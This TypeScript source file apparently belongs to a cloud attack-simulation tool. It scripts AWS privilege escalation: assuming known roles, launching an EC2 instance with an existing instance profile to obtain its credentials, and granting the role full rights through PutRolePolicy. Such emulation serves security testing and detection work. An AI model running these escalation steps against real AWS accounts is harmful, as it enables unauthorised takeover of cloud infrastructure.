import { DescribeInstancesCommand, RunInstancesCommand } from '@aws-sdk/client-ec2';
import type { Handouts } from '../handouts.js';
import { PutRolePolicyCommand } from '@aws-sdk/client-iam';
import { knownType } from '../ec2/instance-types.js';
import type { Arsenal, Foothold } from './arsenal.js';
import { assume } from './make-ways.js';
import type { Stage } from './stage.js';
import { OWN_POLICY } from './strip.js';
import { EVERYTHING } from './thefts.js';

/** What he tries his luck with. */
export interface EscalationDeps {
  readonly arsenal: Arsenal;
  readonly handouts: Handouts;
  /** ARNs of roles he has heard of. */
  readonly roleArns: readonly string[];
  readonly imageId: string;
  readonly instanceType: string;
}

/** How long an instance takes to hand out credentials. */
const BOOT_SECONDS = 1.2;

/**
 * From a credential that cannot change IAM to one that can: assumes the roles he has heard of, else runs an instance with a profile
 * that he sees in use and has it send him its credentials. Undefined when neither gets him there.
 */
export async function escalate(deps: EscalationDeps, { stage, from }: { stage: Stage; from: Foothold }): Promise<Foothold | undefined> {
  for (const roleArn of deps.roleArns) {
    const gained = await assume(deps, { stage, by: from.clients, roleArn });
    if (gained !== undefined && (await takesPower(stage, gained))) {
      stage.say(`moves into ${gained.principal.name}`);
      return gained;
    }
  }
  return runInstance(deps, { stage, from });
}

/** Runs an instance with a role, where he may pass it, and takes the role's credentials. */
export async function runInstance(
  { arsenal, handouts, imageId, instanceType }: EscalationDeps,
  { stage, from }: { stage: Stage; from: Foothold },
): Promise<Foothold | undefined> {
  const { ec2 } = from.clients;
  const seen = await stage.attempt(ec2.send(new DescribeInstancesCommand({})));
  const instances = seen.allowed ? (seen.answer.Reservations ?? []).flatMap(({ Instances = [] }) => Instances) : [];
  for (const Arn of new Set(instances.flatMap(({ IamInstanceProfile: profile }) => profile?.Arn ?? []))) {
    const launch = new RunInstancesCommand({
      ImageId: imageId,
      ...knownType(instanceType),
      MinCount: 1,
      MaxCount: 1,
      IamInstanceProfile: { Arn },
      // Drawn, in place of the SDK's own token: the same seed gives the same records.
      ClientToken: stage.random.uuid(),
    });
    const launched = await stage.attempt(ec2.send(launch));
    const id = launched.allowed ? launched.answer.Instances?.[0]?.InstanceId : undefined;
    if (id === undefined) continue;
    await stage.pause(BOOT_SECONDS);
    const credentials = handouts.instance(id);
    if (credentials === undefined) continue;
    stage.say(`runs the instance ${id} and has its credentials`);
    const gained = arsenal.gain(credentials);
    if (await takesPower(stage, gained)) return gained;
  }
  return undefined;
}

/** Whether a role's session gives itself all rights: one that only reads is of no use to him. */
async function takesPower(stage: Stage, { clients, principal: { name } }: Foothold): Promise<boolean> {
  const policy = { RoleName: name, PolicyName: OWN_POLICY, PolicyDocument: EVERYTHING };
  return (await stage.attempt(clients.iam.send(new PutRolePolicyCommand(policy)))).allowed;
}
